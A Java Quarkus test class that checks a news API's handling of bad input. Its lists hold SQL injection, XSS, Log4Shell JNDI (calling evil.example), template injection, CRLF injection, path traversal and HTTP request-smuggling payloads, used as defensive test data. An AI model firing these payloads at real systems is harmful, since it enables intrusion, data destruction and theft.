package org.broadsheet.shared;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.TreeMap;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.broadsheet.testsupport.ApiTest;
import org.broadsheet.testsupport.Door;
import org.broadsheet.testsupport.Door.Reply;
import org.broadsheet.testsupport.Indexing;
import org.broadsheet.testsupport.Operations;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a client can send that it should not: always a clear problem, never a 500, nothing thrown back as it came. */
@QuarkusTest
class BadInputTest extends ApiTest {
    @Inject
    Indexing indexing;

    private static final Pattern OUR_INSIDES =
            Pattern.compile("Exception|org\\.broadsheet|jakarta\\.|io\\.quarkus|hibernate|SQLState|\\tat ");

    @Inject
    Origins origins;

    @Test
    void answers_an_unknown_slug_with_a_problem_that_says_so() {
        Reply reply = Door.get("/v1/articles/never-written");

        assertProblem(reply, 404, "not-found");
        assertThat(reply.json().path("detail").asText()).isEqualTo("There is no such article.");
    }

    @Test
    void answers_for_what_is_not_public_as_if_it_were_not_there() {
        UUID draft = newsroom.draft("aaaaaaaa-a", "hidden-tag");
        UUID scheduled = newsroom.draft("bbbbbbbb-b");
        newsroom.publishing().schedule(scheduled, Instant.parse("2030-01-01T00:00:00Z"));
        UUID embargoed = newsroom.draft("cccccccc-c");
        newsroom.publishing().embargo(embargoed, Instant.parse("2030-01-01T00:00:00Z"));
        UUID killed = newsroom.draft("dddddddd-d");
        newsroom.publishing().withdraw(killed, "never public, so never told");

        for (String query : List.of("", "?format=text", "?fields=slug", "?include=body")) {
            for (String conditions :
                    List.of("X-A: b", "If-None-Match: *", "If-Modified-Since: Fri, 20 Nov 2076 12:00:00 GMT")) {
                String unknown = known(Door.get("/v1/articles/zzzzzzzz-z" + query, conditions), "zzzzzzzz-z");
                for (String slug : List.of("aaaaaaaa-a", "bbbbbbbb-b", "cccccccc-c", "dddddddd-d")) {
                    assertThat(known(Door.get("/v1/articles/" + slug + query, conditions), slug))
                            .isEqualTo(unknown);
                }
                String nobody = UUID.randomUUID().toString();
                String unknownId = known(Door.get("/v1/articles/" + nobody + query, conditions), nobody);
                for (UUID id : List.of(draft, scheduled, embargoed, killed)) {
                    assertThat(known(Door.get("/v1/articles/" + id + query, conditions), id.toString()))
                            .isEqualTo(unknownId);
                }
            }
        }
        assertThat(known(Door.get("/v1/tags/hidden-tag"), "hidden-tag"))
                .isEqualTo(known(Door.get("/v1/tags/nobody-tag"), "nobody-tag"));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '@', textBlock = """
                    /v1/articles?limit=0 @ invalid-parameter @ limit
                    /v1/articles?limit=101 @ invalid-parameter @ limit
                    /v1/articles?limit=abc @ invalid-parameter @ limit
                    /v1/articles?limit=-1 @ invalid-parameter @ limit
                    /v1/articles?limit= @ invalid-parameter @ limit
                    /v1/articles?limit @ invalid-parameter @ limit
                    /v1/articles?limit=5.0 @ invalid-parameter @ limit
                    /v1/articles?limit=%2B5 @ invalid-parameter @ limit
                    /v1/articles?limit=0x10 @ invalid-parameter @ limit
                    /v1/articles?limit=99999999999999999999 @ invalid-parameter @ limit
                    /v1/articles?limit=%D9%A5 @ invalid-parameter @ limit
                    /v1/articles?limit=5&limit=5 @ invalid-parameter @ limit
                    /v1/articles?limit=5&limit=6 @ invalid-parameter @ limit
                    /v1/articles?tag=a&tag=b @ invalid-parameter @ tag
                    /v1/articles?tag=a,(b @ invalid-parameter @ tag
                    /v1/articles?tag=a) @ invalid-parameter @ tag
                    /v1/articles?tag=a||b @ invalid-parameter @ tag
                    /v1/articles?tag=, @ invalid-parameter @ tag
                    /v1/articles?tag=A @ invalid-parameter @ tag
                    /v1/articles?section=() @ invalid-parameter @ section
                    /v1/articles?author=- @ invalid-parameter @ author
                    /v1/articles?kind=ARTICLE @ invalid-parameter @ kind
                    /v1/articles?kind=novel @ invalid-parameter @ kind
                    /v1/articles?language=e @ invalid-parameter @ language
                    /v1/articles?language=en_GB @ invalid-parameter @ language
                    /v1/articles?order=random @ invalid-parameter @ order
                    /v1/articles?order=published_at%20desc @ invalid-parameter @ order
                    /v1/articles?ids=1 @ invalid-parameter @ ids
                    /v1/articles?ids=, @ invalid-parameter @ ids
                    /v1/articles?publishedAfter=yesterday @ invalid-parameter @ publishedAfter
                    /v1/articles?publishedAfter=2026-11-24 @ invalid-parameter @ publishedAfter
                    /v1/articles?publishedAfter=2026-13-01T00:00:00Z @ invalid-parameter @ publishedAfter
                    /v1/articles?publishedAfter=2026-02-30T00:00:00Z @ invalid-parameter @ publishedAfter
                    /v1/articles?publishedBefore=0000-01-01T00:00:00Z @ invalid-parameter @ publishedBefore
                    /v1/articles?publishedBefore=-4714-01-01T00:00:00Z @ invalid-parameter @ publishedBefore
                    /v1/articles?updatedAfter=%2B10000-01-01T00:00:00Z @ invalid-parameter @ updatedAfter
                    /v1/articles?updatedAfter=%2B999999999-12-31T23:59:59Z @ invalid-parameter @ updatedAfter
                    /v1/articles?fields=nope @ unknown-field @ fields
                    /v1/articles?fields= @ invalid-parameter @ fields
                    /v1/articles?fields=slug, @ unknown-field @ fields
                    /v1/articles?fields=* @ unknown-field @ fields
                    /v1/articles?fields=body @ unknown-field @ fields
                    /v1/articles?fields=slug.length @ unknown-field @ fields
                    /v1/articles?fields=authors.password @ unknown-field @ fields
                    /v1/articles?include=nope @ unknown-field @ include
                    /v1/articles?include=authors.email @ unknown-field @ include
                    /v1/articles?cursor=nope @ invalid-cursor @ cursor
                    /v1/articles?cursor=%25%25 @ invalid-cursor @ cursor
                    /v1/articles?sort=author.email @ unknown-parameter @ sort
                    /v1/articles?state=draft @ unknown-parameter @ state
                    /v1/articles?status[]=draft @ unknown-parameter @ status[]
                    /v1/articles?author[password][startsWith]=a @ unknown-parameter @ author[password][startsWith]
                    /v1/articles?preview=true @ unknown-parameter @ preview
                    /v1/articles?LIMIT=5 @ unknown-parameter @ LIMIT
                    /v1/articles/some-slug?format=pdf @ invalid-parameter @ format
                    /v1/articles/some-slug?limit=5 @ unknown-parameter @ limit
                    /v1/tags?excludeArticle=1 @ invalid-parameter @ excludeArticle
                    /v1/tags?order=newest @ invalid-parameter @ order
                    /v1/tags?prefix= @ invalid-parameter @ prefix
                    /v1/sections?limit=0 @ invalid-parameter @ limit
                    /v1/authors?limit=101 @ invalid-parameter @ limit
                    /v1/site?fields=city.mayor @ unknown-field @ fields
                    """)
    void refuses_what_a_parameter_cannot_be(String target, String kind, String parameter) {
        Reply reply = Door.get(target);

        assertProblem(reply, 400, kind);
        assertThat(reply.json().at("/errors/0/parameter").asText()).isEqualTo(parameter);
        assertThat(reply.json().at("/errors/0/detail").asText()).isNotBlank();
    }

    @Test
    void names_every_fault_at_once() {
        Reply reply = Door.get("/v1/articles?limit=0&tag=(&order=x&fields=nope&include=nope&cursor=x&nope=1");

        assertProblem(reply, 400, "invalid-parameter");
        assertThat(reply.json().path("errors").findValuesAsText("parameter"))
                .containsExactlyInAnyOrder("limit", "tag", "order", "fields", "include", "cursor", "nope");
    }

    @Test
    void does_not_answer_a_small_query_of_faults_with_a_huge_problem() {
        Reply fields = Door.get("/v1/articles?fields=" + ",".repeat(4000));
        Reply names = Door.get("/v1/articles?" + numbered("x%d=1", 600));
        Reply ids = Door.get("/v1/articles?ids=" + ",".repeat(4000));

        for (Reply reply : List.of(fields, names, ids)) {
            assertThat(reply.status()).isEqualTo(400);
            assertThat(reply.body()).hasSizeLessThan(16_384);
        }
    }

    @Test
    void refuses_the_cursor_of_another_list_filter_or_order() {
        Operations.furnish(newsroom);
        indexing.caughtUp();
        String newest = next("/v1/articles?limit=1");

        for (String other : List.of(
                "/v1/articles?order=oldest",
                "/v1/articles?order=updated",
                "/v1/articles?tag=harbour",
                "/v1/articles?section=city",
                "/v1/articles?kind=article",
                "/v1/tags?order=popular",
                "/v1/tags?order=name",
                "/v1/authors?limit=1",
                "/v1/sections?limit=1")) {
            Reply reply = Door.get(other + "&cursor=" + newest);
            assertProblem(reply, 400, "invalid-cursor");
        }
        assertThat(Door.get("/v1/articles?limit=2&cursor=" + newest).status()).isEqualTo(200);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    /v1/articles | ''            | nope                 | nope
                    /v1/articles | ''            | 2026-11-20T12:00:00Z | nope
                    /v1/articles | ''            | 2026-11-20T12:00:00Z | 1-2-3-4-5
                    /v1/articles | ''            | +999999999-12-31T23:59:59Z | 01a20dda-1a46-76e7-9bfd-52fe9434b1f7
                    /v1/articles | ''            | -999999999-01-01T00:00:00Z | 01a20dda-1a46-76e7-9bfd-52fe9434b1f7
                    /v1/tags     | ''            | nope                 | a
                    /v1/tags     | ''            | -9223372036854775808 | a
                    /v1/tags     | ''            | 9223372036854775807  | a
                    /v1/tags     | order=name&   | a@                   | a
                    /v1/tags     | order=name&   | a                    | a@
                    /v1/tags     | order=recent& | nope                 | a
                    /v1/tags     | order=recent& | +294277-01-01T00:00:00Z | a
                    /v1/tags     | order=recent& | -5000-01-01T00:00:00Z | a
                    /v1/sections | ''            | nope                 | a
                    /v1/sections | ''            | 4294967296           | a
                    /v1/sections | ''            | 1                    | @
                    """)
    void refuses_a_forged_cursor_whose_check_sum_is_right(String path, String filters, String first, String second) {
        List<String> keys =
                Stream.of(first, second).map(key -> key.replace('@', '\0')).toList();
        String forged = new Cursor(path + '?' + filters, keys).encoded();

        Reply reply = Door.get(path + '?' + filters + "cursor=" + forged);

        assertProblem(reply, 400, "invalid-cursor");
    }

    @Test
    void reads_four_thousand_characters_of_query_and_refuses_eight_kilobytes() {
        assertThat(Door.get("/v1/articles?tag=" + "a".repeat(4000)).status()).isEqualTo(200);
        assertProblem(Door.get("/v1/articles?tag=" + "a".repeat(8192)), 414, "query-too-long");
    }

    @ParameterizedTest
    @ValueSource(strings = {"text/xml", "text/html", "image/*", "application/xml, text/plain;q=0.5"})
    void offers_json_or_nothing(String accept) {
        assertProblem(Door.get("/v1/articles", "Accept: " + accept), 406, "not-acceptable");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "garbage",
                ";;;",
                "*",
                "/",
                "a/b/c",
                "application/json;q=x",
                "application/json;q=9",
                "*/json",
                "application/json; charset=\"",
                ",,,",
                "\"",
                "application/json;=",
                "text/xml;q=1;q=2"
            })
    void meets_a_garbled_accept_header_without_failing(String accept) {
        Reply reply = Door.get("/v1/articles", "Accept: " + accept);

        assertThat(reply.status()).isIn(200, 400, 406);
    }

    @ParameterizedTest
    @CsvSource({
        "Content-Type, garbage",
        "Content-Type, ;;;",
        "Content-Type, application/json; charset=nope",
        "Accept-Language, ;;;",
        "Accept-Language, x-y-z;q=abc",
        "Accept-Charset, nope",
        "Accept-Encoding, ;;;q=",
        "Accept-Encoding, br;q=nope",
        "Cookie, ;;;===",
        "Authorization, Basic ???",
        "Authorization, Bearer a.b.c",
        "Range, bytes=0-1",
        "If-Match, garbage",
        "If-Range, garbage",
        "Expect, the-worst",
        "Forwarded, for=_;;;",
        "X-Forwarded-Host, evil.example",
        "X-Forwarded-Prefix, /evil",
        "X-HTTP-Method-Override, DELETE",
        "X-Original-URL, /evil",
        "Origin, null",
        "Referer, %%%",
        "User-Agent, <script>",
        "TE, trailers",
        "Upgrade, h2c"
    })
    void lets_no_odd_header_change_the_answer(String name, String value) {
        newsroom.published("harbour-opens", "harbour");
        Reply plain = Door.get("/v1/articles/harbour-opens");

        Reply reply = Door.get("/v1/articles/harbour-opens", name + ": " + value);

        assertThat(reply.status()).isIn(200, 400, 417);
        if (reply.status() == 200) {
            assertThat(reply.text()).isEqualTo(plain.text());
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"garbage", "\"", "\"\"", "W/", "W/garbage", ",,,", "\"a", "a\"", "\"a\",", "'a'", "\u00ff"})
    void ignores_a_garbled_if_none_match(String garbage) {
        newsroom.published("harbour-opens");

        assertThat(Door.get("/v1/articles/harbour-opens", "If-None-Match: " + garbage)
                        .status())
                .isEqualTo(200);
        assertThat(Door.get("/v1/articles", "If-None-Match: " + garbage).status())
                .isEqualTo(200);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "garbage",
                "0",
                "-1",
                "2026-11-20T12:00:00Z",
                "Fri, 99 Nov 2026 12:00:00 GMT",
                "Mon, 20 Nov 2026 12:00:00 GMT",
                "Fri, 20 Nov 999999999 12:00:00 GMT",
                "Fri, 20 Nov 2026 12:00:00 CET",
                ",",
                "\u00ff"
            })
    void ignores_a_garbled_if_modified_since(String garbage) {
        newsroom.published("harbour-opens");
        newsroom.anHourPasses();

        assertThat(Door.get("/v1/articles/harbour-opens", "If-Modified-Since: " + garbage)
                        .status())
                .isEqualTo(200);
        assertThat(Door.get("/v1/articles", "If-Modified-Since: " + garbage).status())
                .isEqualTo(200);
    }

    @Test
    void takes_the_or_of_an_expression_as_people_type_it() {
        Operations.furnish(newsroom);
        indexing.caughtUp();

        Reply typed = Door.get("/v1/articles?tag=ferries|bridge&fields=slug");
        Reply escaped = Door.get("/v1/articles?tag=ferries%7Cbridge&fields=slug");

        assertThat(typed.status()).isEqualTo(200);
        assertThat(typed.json().path("items")).hasSize(2);
        assertThat(typed.text()).isEqualTo(escaped.text());
    }

    @ParameterizedTest
    @ValueSource(strings = {"POST", "PUT", "PATCH", "DELETE"})
    void says_which_methods_an_address_takes(String method) {
        for (Operations.Get get : Operations.gets()) {
            Reply reply = Door.send(
                    method, get.address(), "{}".getBytes(StandardCharsets.UTF_8), "Content-Type: application/json");

            assertProblem(reply, 405, "method-not-allowed");
            assertThat(reply.header("Allow").orElse("")).contains("GET", "HEAD");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"TRACE", "BREW", "get", "PROPFIND", "LOCK", "<SCRIPT>", "CONNECT", "G=T"})
    void meets_an_unheard_of_method_without_failing(String method) {
        Reply reply = Door.send(method, "/v1/articles", "X-Canary: cdb6a2c1");

        assertThat(reply.status()).isBetween(400, 501).isNotEqualTo(500);
        assertThat(reply.text()).doesNotContain("cdb6a2c1", "<SCRIPT>");
    }

    @Test
    void refuses_a_body_of_two_megabytes_declared_or_not() {
        byte[] huge = "x".repeat(2 * 1024 * 1024).getBytes(StandardCharsets.UTF_8);

        for (String target : List.of("/v1/articles", "/test/notes", "/nowhere")) {
            assertProblem(Door.send("POST", target, huge, "Content-Type: application/json"), 413, "body-too-large");
        }
        String chunks =
                "a\r\n{\"title\":\"\r\n" + ("10000\r\n" + "x".repeat(0x10000) + "\r\n").repeat(32) + "0\r\n\r\n";
        Reply chunked = Door.sendRaw(
                "POST /test/notes HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
                        + "Connection: close\r\n\r\n" + chunks,
                false);
        assertThat(chunked.status()).isEqualTo(413);
        assertThat(chunked.header("X-Request-Id")).isPresent();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{",
                "nope",
                "{\"title\":",
                "[1,2",
                "{\"title\":\"a\"}}",
                "{\"title\":\"a\",\"title\":\"b\",\"pages\":1}",
                "{\"title\":{\"a\":1},\"pages\":1}",
                "{\"title\":\"a\",\"pages\":\"<script>\"}",
                "{\"pages\":99999999999999999999}",
                "{\"pages\":1e400}",
                "{\"admin\":true}",
                "{\"@class\":\"java.lang.Runtime\"}",
                "[]",
                "\"\u0000\"",
                "null null",
                "{'title':'a'}",
                "{\"title\":\"a\",}",
                "\u00fe\u00ff",
                "NaN"
            })
    void says_that_a_body_is_not_the_json_it_takes(String body) {
        Reply reply = Door.send(
                "POST", "/test/notes", body.getBytes(StandardCharsets.ISO_8859_1), "Content-Type: application/json");

        assertProblem(reply, 400, "malformed-json");
    }

    @Test
    void refuses_json_nested_without_end() {
        byte[] deep = ("{\"tags\":" + "[".repeat(100_000)).getBytes(StandardCharsets.UTF_8);

        assertProblem(Door.send("POST", "/test/notes", deep, "Content-Type: application/json"), 400, "malformed-json");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"text/plain", "application/x-www-form-urlencoded", "text/xml", "multipart/form-data; boundary=x"
            })
    void takes_bodies_as_json_only(String type) {
        Reply reply = Door.send("POST", "/test/notes", "{}".getBytes(StandardCharsets.UTF_8), "Content-Type: " + type);

        assertProblem(reply, 415, "unsupported-media-type");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/v1/articles/a%00b",
                "/v1/articles/%2f",
                "/v1/articles/a%2Fb",
                "/v1/articles/a;b=c",
                "/v1/articles;x",
                "/v1/articles/a%3Bb",
                "/v1//articles",
                "//v1/articles",
                "/v1/articles//",
                "/v1/./articles",
                "/v1/../v1/articles",
                "/v1/articles/..",
                "/v1/articles/%2e%2e",
                "/v1/articles/%2E%2e/tags",
                "/v1/articles/a\\b",
                "/v1/articles/a|b",
                "/v1/articles/<b>",
                "/v1/articles/{b}",
                "/v1/articles/\"",
                "/v1/articles/a%5Cb",
                "/v1/articles/a%0d%0aX-Evil:%20yes",
                "/v1/articles/%7f",
                "/v1/articles/%252e",
                "/v1/articles/%",
                "/v1/articles/%zz",
                "/v1/articles/%e",
                "/v1/articles/\u00e9",
                "/media/../../etc/passwd",
                "/media/%2e%2e/passwd",
                "/v1/articles/.",
                "/v1/articles?%",
                "/v1/articles?tag=%zz",
                "/v1/articles?tag=%",
                "/v1/articles?tag=%e9",
                "/v1/articles?tag=%c0%ae",
                "/v1/articles?tag=a%00b",
                "/v1/articles?tag=%1b[31m",
                "/v1/articles?%00=1",
                "/v1/articles?tag=%ed%a0%80",
                "/v1/articles?tag=\u00ff"
            })
    void refuses_spellings_that_only_an_attack_uses(String target) {
        assertProblem(Door.get(target), 400, "malformed-request");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/nowhere",
                "/v2/articles",
                "/v1",
                "/v1/",
                "/",
                "/V1/articles",
                "/v1/articles/a/b",
                "/q/dev",
                "/q/health",
                "/q/metrics",
                "/q/swagger-ui",
                "/q/openapi",
                "/.env",
                "/.git/config",
                "/@fs/etc/passwd",
                "/q/webauthn/register",
                "/media/ab/nothing.jpg",
                "/media/ab",
                "/%3Cscript%3Ex()%3C",
                "/index.php"
            })
    void has_nothing_at_an_address_that_is_none_of_ours(String target) {
        assertProblem(Door.get(target), 404, "not-found");
    }

    @Test
    void knows_no_slug_of_three_thousand_letters() {
        assertProblem(Door.get("/v1/articles/" + "a".repeat(3000)), 404, "not-found");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "GET /v1/articles\r\n\r\n",
                "GET  /v1/articles HTTP/1.1\r\n\r\n",
                "GET /v1/articles HTTP/9.9\r\nHost: a\r\n\r\n",
                "\u0016\u0003\u0001\u0002\r\n\r\n",
                "GET /v1/articles HTTP/1.1\r\nHost: a\r\nX\u0000Y: 1\r\n\r\n",
                "GET /v1/articles HTTP/1.1\r\nHost: a\r\n: 1\r\n\r\n",
                "GET /v1/ar\u0000ticles HTTP/1.1\r\nHost: a\r\n\r\n",
                "GET http://evil.example/v1/nothing HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
                "OPTIONS * HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
                "GET * HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
                "GET ?limit=1 HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
                "POST /v1/articles HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n",
                "POST /v1/articles HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
                "POST /v1/articles HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                "POST /v1/articles HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nnope\r\n\r\n"
            })
    void meets_what_is_not_http_with_a_client_error_or_by_hanging_up(String request) {
        Reply reply = Door.sendRaw(request, false);

        assertThat(reply.status())
                .satisfiesAnyOf(
                        status -> assertThat(status).isZero(),
                        status -> assertThat(status).isBetween(200, 299),
                        status -> assertThat(status).isBetween(400, 431),
                        status -> assertThat(status).isIn(501, 505));
        assertThat(OUR_INSIDES.matcher(reply.text()).find()).isFalse();
    }

    @Test
    void refuses_headers_larger_than_sixteen_kilobytes() {
        assertThat(Door.get("/v1/articles", "X-Large: " + "x".repeat(20_000)).status())
                .isEqualTo(431);
        assertThat(Door.get("/v1/articles", numbered("X-%d: 1\r\n", 3000) + "X-End: 1")
                        .status())
                .isEqualTo(431);
    }

    @Test
    void refuses_an_address_too_long_to_read() {
        assertThat(Door.get("/v1/articles?tag=" + "a".repeat(30_000)).status()).isEqualTo(414);
    }

    static final List<String> HOSTILE = List.of(
            "' or '1'='1",
            "'; drop table article; --",
            "1) or (1=1",
            "a'),(select pg_sleep(5))--",
            "a' || pg_sleep(5) || '",
            "\\'; select 1 --",
            "$$; select 1; $$",
            "%' or headline like '%",
            ":tag",
            "?",
            "?1",
            "{fn now()}",
            "/*",
            "a\\",
            "<script>x()</script>",
            "\"><img src=x onerror=x()>",
            "'-x()-'",
            "javascript:x()",
            "</title><svg onload=x()>",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "#{7*7}",
            "%{7*7}",
            "\r\nX-Evil: yes",
            "\u202eevil",
            "\ud83d\ude00",
            "__proto__",
            "constructor",
            "null",
            "undefined",
            "true",
            "NaN",
            "-1",
            "1e309",
            "[]",
            "{}",
            "*",
            "_",
            "%",
            "../../etc/passwd",
            "file:///etc/passwd",
            "x".repeat(3000));

    @ParameterizedTest
    @FieldSource("HOSTILE")
    void keeps_sql_and_html_in_parameters_from_meaning_anything(String hostile) {
        Operations.furnish(newsroom);
        indexing.caughtUp();
        String encoded = URLEncoder.encode(hostile, StandardCharsets.UTF_8).replace("+", "%20");
        List<String> targets = new ArrayList<>();
        for (Operations.Get get : Operations.gets()) {
            List<String> names = new ArrayList<>(get.queryParameters());
            names.add("unheard-of");
            names.forEach(name -> targets.add(get.with(name + '=' + encoded)));
            targets.add(get.with(encoded + "=1"));
            targets.add(get.path().replaceAll("\\{[^}]+}", "x" + encoded));
        }

        for (String target : targets) {
            long start = System.nanoTime();
            Reply reply = Door.get(target);

            assertThat(reply.status()).as(target).isIn(200, 400, 404);
            assertThat(System.nanoTime() - start)
                    .as("nanoseconds for %s", target)
                    .isLessThan(4_000_000_000L);
            assertThat(reply.text()).as(target).doesNotContain("<script", "<img", "<svg", "\r\n", "\u202e");
            assertThat(OUR_INSIDES.matcher(reply.text()).find())
                    .as(reply.text())
                    .isFalse();
            assertThat(reply.header("X-Evil")).isEmpty();
            if (reply.status() != 200) {
                assertThat(reply.header("Content-Type"))
                        .hasValueSatisfying(type -> assertThat(type).startsWith(Problems.MEDIA_TYPE));
            }
        }
        assertThat(Door.get("/v1/articles").json().path("items")).hasSize(3);
    }

    @Test
    void tells_nothing_of_our_insides_when_we_fail() {
        Reply broken = Door.get("/test/broken");
        Reply away = Door.get("/test/database-away");

        assertProblem(broken, 500, "internal");
        assertThat(broken.text()).doesNotContain("vault", "42P01");
        assertProblem(away, 503, "unavailable");
        assertThat(away.text()).doesNotContain("10.0.0.7");
        assertThat(away.header("Retry-After")).isPresent();
    }

    @Test
    void lets_nobody_through_a_door_that_is_for_staff_or_says_nothing() {
        assertProblem(Door.get("/test/staff"), 401, "not-authenticated");
        assertThat(Door.get("/test/forgotten").status()).isIn(401, 403);
        assertThat(Door.get("/test/forgotten").text()).doesNotContain("secret");
    }

    @ParameterizedTest
    @CsvSource({
        "deadbeef, true",
        "client-42.a_b, true",
        "short, true",
        "Root=1-67891233-abcdef012345678912345678, true",
        "with space, false",
        "<script>, false",
        "'a,b,c,d,e,f', false",
        "\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9, false"
    })
    void echoes_a_usable_request_id_and_mints_one_for_any_other(String given, boolean isUsable) {
        for (String target : List.of(
                "/v1/site", "/v1/articles/none", "/v1/articles?limit=0", "/nowhere", "/v1//site", "/test/broken")) {
            Reply reply = Door.get(target, "X-Request-Id: " + given);

            String id = reply.header("X-Request-Id").orElseThrow();
            assertThat(id.equals(given)).isEqualTo(isUsable);
            assertThat(id).matches("[A-Za-z0-9._:;=+/@-]{1,128}");
            assertThat(reply.headers().get("x-request-id")).hasSize(1);
        }
    }

    private void assertProblem(Reply reply, int status, String kind) {
        assertThat(reply.status()).as(reply.text()).isEqualTo(status);
        assertThat(reply.header("Content-Type").orElse("")).startsWith("application/problem+json");
        JsonNode problem = reply.json();
        assertThat(problem.fieldNames())
                .toIterable()
                .containsExactlyInAnyOrder("type", "title", "status", "detail", "instance", "requestId", "errors");
        assertThat(problem.path("type").asText()).isEqualTo(origins.siteUrl() + "/problems/" + kind);
        assertThat(problem.path("status").asInt()).isEqualTo(status);
        assertThat(problem.path("title").asText()).isNotBlank();
        assertThat(problem.path("detail").asText()).isNotBlank();
        assertThat(problem.path("requestId").asText())
                .isEqualTo(reply.header("X-Request-Id").orElseThrow());
        assertThat(reply.header("Cache-Control")).contains("no-store");
        assertThat(reply.header("X-Content-Type-Options")).contains("nosniff");
        assertThat(reply.header("Access-Control-Allow-Origin")).contains("*");
        assertThat(reply.text()).doesNotContain("<", ">");
        assertThat(OUR_INSIDES.matcher(reply.text()).find()).as(reply.text()).isFalse();
    }

    /** The whole reply, without what names the request. */
    private static String known(Reply reply, String name) {
        TreeMap<String, List<String>> headers = new TreeMap<>(reply.headers());
        headers.remove("date");
        String id = headers.remove("x-request-id").getFirst();
        return reply.status() + "\n" + headers + "\n"
                + reply.text().replace(id, "ID").replace(name, "NAME");
    }

    private static String next(String target) {
        return Door.get(target).json().at("/page/next").asText();
    }

    private static String numbered(String pattern, int count) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < count; i++) {
            text.append(text.isEmpty() || pattern.endsWith("\n") ? "" : "&").append(pattern.formatted(i));
        }
        return text.toString();
    }
}
